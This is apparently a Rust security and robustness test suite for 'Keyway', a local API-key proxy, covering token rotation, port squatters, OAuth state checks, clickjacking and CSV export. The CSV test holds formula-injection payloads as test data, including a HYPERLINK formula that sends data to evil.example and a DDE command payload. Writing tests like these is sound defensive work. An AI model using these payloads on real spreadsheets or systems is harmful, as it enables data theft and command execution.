    fake.set_default(
        "sk-oa",
        Behaviour::Raw {
            status: 200,
            headers: vec![],
            body: json!({"id": "chatcmpl-1", "object": "chat.completion", "model": "gpt-5",
                         "choices": [{"index": 0, "message": {"role": "assistant", "content": "ok"},
                                      "finish_reason": "stop"}],
                         "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}})
            .to_string(),
        },
    );
    // One body, sent 40 times, 4 at a time.
    let huge = bytes::Bytes::from(
        json!({"model": format!("gpt-{}", "x".repeat(MODEL_BYTES)),
               "messages": [{"role": "user", "content": "hi"}]})
        .to_string(),
    );
    let statuses = futures_util::stream::iter(0..REQUESTS)
        .map(|_| {
            let r = keyway
                .http
                .post(keyway.url("/v1/chat/completions"))
                .bearer_auth(&keyway.client_key)
                .header("content-type", "application/json")
                .body(huge.clone())
                .send();
            async move {
                let r = r.await.expect("an answer");
                let status = r.status();
                let _ = r.bytes().await.expect("body");
                status
            }
        })
        .buffer_unordered(4)
        .collect::<Vec<_>>()
        .await;
    assert!(statuses.iter().all(|s| *s == 200), "{statuses:?}");
    drop(huge);
    fake.clear();
    let _ = keyway.api_get("/usage").await;
    let after_rss = rss_kib(keyway.pid());
    let after_history = history_bytes(&keyway.setup);
    eprintln!(
        "huge model names: Keyway RSS {} KiB before, {} KiB after {REQUESTS} requests; usage history {} -> {} bytes",
        before_rss, after_rss, before_history, after_history
    );
    assert!(
        after_rss <= before_rss + RSS_GROWTH_MIB * 1024,
        "memory grew from {before_rss} KiB to {after_rss} KiB"
    );
    assert!(
        after_history <= HISTORY_MIB * 1024 * 1024,
        "the usage history is {after_history} bytes"
    );
    let records = keyway.api_get("/requests").await;
    let huge_records: Vec<&Value> = records
        .as_array()
        .expect("records")
        .iter()
        .filter(|r| {
            r["model"]
                .as_str()
                .is_some_and(|m| m.starts_with("gpt-xxx"))
        })
        .collect();
    assert_eq!(huge_records.len(), REQUESTS);
    for r in huge_records {
        let model = r["model"].as_str().expect("model");
        assert_eq!(model.chars().count(), 256, "cut to 256 characters");
        assert!(model.ends_with('…'), "with a marker that it was cut");
    }
}

// ---------------------------------------------------------------------------------------------
// The right instance
// ---------------------------------------------------------------------------------------------

/// A process on the port Keyway's commands talk to: it answers every request with
/// `answer(request head)` and keeps every byte it was sent.
struct Squatter {
    addr: std::net::SocketAddr,
    received: std::sync::Arc<std::sync::Mutex<Vec<u8>>>,
}

impl Squatter {
    async fn start<F, Fut>(answer: F) -> Squatter
    where
        F: Fn(String) -> Fut + Send + Sync + 'static,
        Fut: std::future::Future<Output = (u16, String)> + Send,
    {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
            .await
            .expect("bind");
        let addr = listener.local_addr().expect("addr");
        let received = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let kept = received.clone();
        let answer = std::sync::Arc::new(answer);
        tokio::spawn(async move {
            while let Ok((conn, _)) = listener.accept().await {
                let (kept, answer) = (kept.clone(), answer.clone());
                tokio::spawn(async move {
                    let mut conn = BufReader::new(conn);
                    let mut head = String::new();
                    loop {
                        let mut line = String::new();
                        match conn.read_line(&mut line).await {
                            Ok(0) | Err(_) => break,
                            Ok(_) => {}
                        }
                        kept.lock()
                            .expect("kept")
                            .extend_from_slice(line.as_bytes());
                        head.push_str(&line);
                        if line == "\r\n" {
                            let (status, body) = answer(std::mem::take(&mut head)).await;
                            let reply = format!(
                                "HTTP/1.1 {status} X\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n{body}",
                                body.len()
                            );
                            if conn.get_mut().write_all(reply.as_bytes()).await.is_err() {
                                break;
                            }
                        }
                    }
                });
            }
        });
        Squatter { addr, received }
    }

    fn received(&self) -> String {
        String::from_utf8_lossy(&self.received.lock().expect("kept")).into_owned()
    }
}

/// The commands that talk to a running Keyway, run against something else on the port:
/// each refuses, says so, and the squatter never sees the management token — not when it
/// answers like Keyway, and not when it relays the challenge to a real Keyway elsewhere.
#[tokio::test]
async fn a_process_squatting_the_port_never_gets_the_management_token() {
    let fake = FakeUpstream::start().await;
    let setup = Setup::new(&fake.base_url(), "");
    let keyway = setup.start().await;
    let token = keyway.management_token.clone();

    let imitator = Squatter::start(|_| async {
        (
            200,
            r#"{"keyway":"0.1.0","listen":"127.0.0.1:1","proof":"00"}"#.to_owned(),
        )
    })
    .await;
    let real = keyway.addr;
    let relay = Squatter::start(move |head| async move {
        // The challenge goes on to the real Keyway, whose answer comes back as is.
        let path = head.split_whitespace().nth(1).unwrap_or("/").to_owned();
        let r = reqwest::Client::new()
            .get(format!("http://{real}{path}"))
            .send()
            .await
            .expect("relay");
        (r.status().as_u16(), r.text().await.unwrap_or_default())
    })
    .await;

    for squatter in [&imitator, &relay] {
        let at = squatter.addr.to_string();
        for command in [
            &["account", "list"][..],
            &["status"],
            &["dashboard-url"],
            &["sessions"],
            &["client-key", "--rotate"],
            &["management-token", "--rotate"],
        ] {
            let mut args = vec!["--listen", at.as_str()];
            args.extend_from_slice(command);
            let out = keyway.setup.cli(&args).await;
            assert_ne!(out.code, Some(0), "{command:?} against a squatter: {out:?}");
            assert!(
                out.stderr.contains("not this Keyway"),
                "{command:?} says why: {out:?}"
            );
        }
        let seen = squatter.received();
        assert!(
            seen.contains("/api/hello?nonce="),
            "it was asked to prove itself: {seen}"
        );
        assert!(!seen.contains(&token), "the squatter saw the token: {seen}");
        assert!(
            !seen.to_ascii_lowercase().contains("authorization"),
            "{seen}"
        );
    }
    // The real one is still reachable with the token it had.
    assert_eq!(keyway.cli(&["management-token"]).await.ok(), token);
    keyway.api_get("/status").await;
}

/// `keyway management-token --rotate` with Keyway running: the old token stops working at
/// once, the new one works, and `keyway dashboard-url` names it.
#[tokio::test]
async fn the_management_token_rotates_in_the_running_instance() {
    let fake = FakeUpstream::start().await;
    let keyway = Setup::new(&fake.base_url(), "").start().await;
    let old = keyway.management_token.clone();
    let new = keyway
        .cli(&["management-token", "--rotate"])
        .await
        .ok()
        .to_owned();
    assert!(new.starts_with("kwm-") && new != old, "{new}");
    let status = |token: String| {
        keyway
            .http
            .get(keyway.url("/api/status"))
            .bearer_auth(token)
            .send()
    };
    assert_eq!(status(old.clone()).await.expect("old").status(), 401);
    assert_eq!(status(new.clone()).await.expect("new").status(), 200);
    assert_eq!(keyway.cli(&["management-token"]).await.ok(), new);
    assert_eq!(
        keyway.cli(&["dashboard-url"]).await.ok(),
        format!("http://{}/#token={new}", keyway.addr)
    );
    // Commands still find the instance with the token now in the keyring.
    assert!(keyway.cli(&["status"]).await.ok().contains("listening on"));
}

// ---------------------------------------------------------------------------------------------
// Smaller doors
// ---------------------------------------------------------------------------------------------

/// A login as `GET /api/logins/{id}` shows it.
async fn login_state(keyway: &Keyway, id: &str) -> Value {
    keyway.api_get(&format!("/logins/{id}")).await
}

/// Any local page can reach a pending login's loopback callback. One without the login's
/// `state` (a wrong code, a forged refusal) is answered with an error and the login keeps
/// waiting; the real redirect still completes it.
#[tokio::test]
async fn a_callback_with_a_wrong_state_leaves_the_login_waiting() {
    let fake = FakeUpstream::start().await;
    fake.claude_oauth().login_as("alice");
    let keyway = Setup::new(&fake.base_url(), "").start().await;
    let r = keyway
        .api(reqwest::Method::POST, "/logins")
        .json(&json!({"provider": "anthropic", "label": "Max", "accept_terms_risk": true}))
        .send()
        .await
        .expect("POST /api/logins");
    assert_eq!(r.status(), 201);
    let login: Value = r.json().await.expect("JSON");
    let id = login["id"].as_str().expect("id").to_owned();
    let url = login["url"].as_str().expect("url").to_owned();

    let callback = keyway.setup.redirect_uri("anthropic");
    let browser = reqwest::Client::builder()
        .no_proxy()
        .build()
        .expect("client");
    for probe in [
        "?code=forged&state=wrong",
        "?code=forged",
        "?error=access_denied&state=wrong",
        "?error=access_denied",
    ] {
        let r = tokio::time::timeout(WAIT, browser.get(format!("{callback}{probe}")).send())
            .await
            .expect("the callback answers")
            .expect("the callback listens");
        assert_eq!(r.status(), 400, "{probe}");
        assert_eq!(
            login_state(&keyway, &id).await["state"],
            "pending",
            "{probe}"
        );
    }

    // The real redirect (the fake's authorize page sends the browser back with the state).
    let page = tokio::time::timeout(WAIT, browser.get(&url).send())
        .await
        .expect("login page")
        .expect("reachable");
    assert_eq!(page.status(), 200);
    let deadline = Instant::now() + WAIT;
    loop {
        let state = login_state(&keyway, &id).await;
        if state["state"] != "pending" {
            assert_eq!(state["state"], "done", "{state}");
            break;
        }
        assert!(
            Instant::now() < deadline,
            "the login never finished: {state}"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// The dashboard cannot be framed by another page (clickjacking).
#[tokio::test]
async fn the_dashboard_refuses_to_be_framed() {
    let fake = FakeUpstream::start().await;
    let keyway = Setup::new(&fake.base_url(), "").start().await;
    for path in ["/", "/assets/missing.js"] {
        let r = keyway
            .http
            .get(keyway.url(path))
            .send()
            .await
            .expect("page");
        let csp = r
            .headers()
            .get("content-security-policy")
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default();
        assert!(csp.contains("frame-ancestors 'none'"), "{path}: {csp:?}");
        assert_eq!(
            r.headers().get("x-frame-options").map(|v| v.as_bytes()),
            Some(&b"DENY"[..]),
            "{path}"
        );
    }
}

/// A model name that a spreadsheet would run as a formula is exported as text.
#[tokio::test]
async fn the_usage_csv_exports_formulas_as_text() {
    let fake = FakeUpstream::start().await;
    fake.register_key(Provider::Anthropic, "sk-ant");
    let setup = Setup::new(&fake.base_url(), "");
    setup.add_account("anthropic", "A", "sk-ant").await;
    let keyway = setup.start().await;
    let formulas = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
    ];
    for model in formulas {
        let r = keyway.anthropic(model).await;
        assert_eq!(r.status(), 200, "{model}");
    }
    let csv = keyway
        .api(reqwest::Method::GET, "/usage.csv")
        .send()
        .await
        .expect("csv")
        .text()
        .await
        .expect("text");
    for model in formulas {
        let quoted = format!("'{model}").replace('"', "\"\"");
        assert!(csv.contains(&quoted), "{model} exported as text: {csv}");
    }
    for line in csv.lines().skip(1) {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(
                !cell.starts_with(['=', '+', '-', '@']),
                "a cell a spreadsheet would run: {cell} in {line}"
            );
        }
    }
}

/// A usage log Keyway cannot write (here a file where its folder should be) costs no request
/// and no total: the Usage screen still counts every request, the log says what is wrong
/// once, and the CSV export answers an error naming the folder and what it must be.
#[tokio::test]
async fn an_unwritable_usage_log_loses_no_request_and_no_total() {
    let fake = FakeUpstream::start().await;
    fake.register_key(Provider::Anthropic, "sk-ant");
    let setup = Setup::new(&fake.base_url(), "");
    setup.add_account("anthropic", "A", "sk-ant").await;
    let log_dir = setup.data_dir().join("usage-log");
    std::fs::create_dir_all(setup.data_dir()).expect("data dir");
    std::fs::write(&log_dir, "not a folder").expect("a file in the way");
    let keyway = setup.start().await;
    for _ in 0..3 {
        assert_eq!(keyway.anthropic("claude-sonnet-4-5").await.status(), 200);
        // A query flushes the writer: each request is a batch of its own.
        keyway.api_get("/usage").await;
    }
    let usage = keyway.api_get("/usage").await;
    let requests: u64 = usage["by_day"]
        .as_array()
        .expect("by_day")
        .iter()
        .filter_map(|d| d["requests"].as_u64())
        .sum();
    assert_eq!(requests, 3, "{usage}");
    let r = keyway
        .api(reqwest::Method::GET, "/usage.csv")
        .send()
        .await
        .expect("csv");
    assert_eq!(r.status(), 500);
    let body = r.text().await.expect("text");
    assert!(
        body.contains("usage log")
            && body.contains("usage-log")
            && body.contains("must be a folder"),
        "{body}"
    );
    // Said once (on stderr, and in the log file), not for every batch the writer could not
    // write.
    let stderr = std::fs::read_to_string(keyway.stderr_log()).expect("stderr");
    assert_eq!(
        stderr.matches("cannot write to the usage log").count(),
        1,
        "{stderr}"
    );
}

/// `POST /api/imports` reads only regular files of at most 1 MiB: a device or a pipe is
/// refused at once, not read for ever.
#[tokio::test]
async fn imports_refuse_devices_and_pipes_at_once() {
    let fake = FakeUpstream::start().await;
    let setup = Setup::new(&fake.base_url(), "");
    let fifo = setup.dir().join("credentials.fifo");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .expect("mkfifo");
    assert!(made.success());
    let big = setup.dir().join("big.json");
    std::fs::write(&big, vec![b' '; 2 * 1024 * 1024]).expect("write");
    let keyway = setup.start().await;
    for path in [
        "/dev/zero".to_owned(),
        fifo.display().to_string(),
        big.display().to_string(),
    ] {
        let started = Instant::now();
        let r = tokio::time::timeout(
            WAIT,
            keyway
                .api(reqwest::Method::POST, "/imports")
                .json(&json!({"source": "claude-code", "path": path, "accept_terms_risk": true}))
                .send(),
        )
        .await
        .expect("answered, not stuck reading")
        .expect("POST");
        assert_eq!(r.status(), 400, "{path}");
        assert!(started.elapsed() < Duration::from_secs(5), "{path}");
        let body: Value = r.json().await.expect("JSON");
        let message = body["error"]["message"].as_str().unwrap_or_default();
        assert!(
            message.contains("not a regular file") || message.contains("larger than"),
            "{path}: {message}"
        );
    }
}

/// The permission bits of `path`.
fn mode(path: &std::path::Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(path)
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
        .permissions()
        .mode()
        & 0o777
}

fn set_mode(path: &std::path::Path, bits: u32) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(bits)).expect("chmod");
}

/// What Keyway keeps about the user's accounts and keys is readable by the user alone: the
/// data dir, the logs, the usage history, the account facts, Connect's backups, and a tool's
/// config file once it holds the client key (its own mode comes back when disconnected).
/// Files an older Keyway left readable by all are narrowed at start.
#[tokio::test]
async fn keyways_files_are_private_to_their_owner() {
    let fake = FakeUpstream::start().await;
    fake.register_key(Provider::Anthropic, "sk-ant");
    let setup = Setup::new(&fake.base_url(), "").with_home();
    setup.add_account("anthropic", "A", "sk-ant").await;
    // As an older Keyway left them: readable by all.
    let data = setup.data_dir();
    std::fs::create_dir_all(data.join("logs")).expect("logs");
    std::fs::write(data.join("logs/keyway.log.2026-01-01"), "old\n").expect("old log");
    std::fs::write(data.join("state.json"), "{}").expect("state");
    for (path, bits) in [
        (data.clone(), 0o755),
        (data.join("logs"), 0o755),
        (data.join("logs/keyway.log.2026-01-01"), 0o644),
        (data.join("state.json"), 0o644),
    ] {
        set_mode(&path, bits);
    }
    let home = setup.home().expect("home").to_owned();
    let settings = home.join(".claude/settings.json");
    std::fs::create_dir_all(settings.parent().expect("dir")).expect("mkdir");
    std::fs::write(&settings, "{\"model\": \"opus\"}\n").expect("settings");
    set_mode(&settings, 0o644);

    let keyway = setup.start().await;
    assert_eq!(keyway.anthropic("claude-sonnet-4-5").await.status(), 200);
    let _ = keyway.api_get("/usage").await;
    let r = keyway
        .api(reqwest::Method::POST, "/connect/claude-code")
        .send()
        .await
        .expect("connect");
    assert_eq!(r.status(), 200, "{}", r.text().await.unwrap_or_default());
    assert!(
        std::fs::read_to_string(&settings)
            .expect("settings")
            .contains(&keyway.client_key),
        "the tool's file holds the client key now"
    );

    let mut private = vec![
        (data.clone(), 0o700),
        (data.join("logs"), 0o700),
        (data.join("state.json"), 0o600),
        (data.join("connect-backups"), 0o700),
        (data.join("connect-backups/claude-code"), 0o700),
        (data.join("connect-backups/claude-code/original"), 0o600),
        (settings.clone(), 0o600),
    ];
    for name in ["usage.sqlite3", "usage.sqlite3-wal", "usage.sqlite3-shm"] {
        private.push((data.join(name), 0o600));
    }
    private.push((data.join("usage-log"), 0o700));
    for day in std::fs::read_dir(data.join("usage-log"))
        .expect("usage log")
        .flatten()
    {
        private.push((day.path(), 0o600));
    }
    for log in std::fs::read_dir(data.join("logs"))
        .expect("logs")
        .flatten()
    {
        private.push((log.path(), 0o600));
    }
    for (path, bits) in &private {
        assert_eq!(mode(path), *bits, "{} is {:o}", path.display(), mode(path));
    }

    let r = keyway
        .api(reqwest::Method::DELETE, "/connect/claude-code")
        .send()
        .await
        .expect("disconnect");
    assert_eq!(r.status(), 200);
    assert_eq!(
        std::fs::read_to_string(&settings).expect("restored"),
        "{\"model\": \"opus\"}\n"
    );
    assert_eq!(
        mode(&settings),
        0o644,
        "the file's own mode came back with its bytes"
    );
}

/// A save interrupted by a crash leaves its temporary file; the next start removes it (beside
/// the config and in the data dir), and keeps everything else.
#[tokio::test]
async fn a_crash_leaves_no_stray_temporary_file_after_the_next_start() {
    let fake = FakeUpstream::start().await;
    let setup = Setup::new(&fake.base_url(), "");
    let mut gone = std::process::Command::new("true").spawn().expect("spawn");
    let dead = gone.id();
    gone.wait().expect("wait");
    let config_dir = setup.config_path.parent().expect("dir").to_owned();
    std::fs::create_dir_all(setup.data_dir()).expect("data dir");
    let strays = [
        config_dir.join(format!(".config.toml.{dead}-0.tmp")),
        setup.data_dir().join(format!(".state.json.{dead}-3.tmp")),
    ];
    let kept = config_dir.join("notes.tmp");
    for f in strays.iter().chain([&kept]) {
        std::fs::write(f, "half a file").expect("write");
    }
    let keyway = setup.start().await;
    for f in &strays {
        assert!(!f.exists(), "{} was removed", f.display());
    }
    assert!(kept.exists(), "a file that is not Keyway's stays");
    keyway.api_get("/status").await;
}
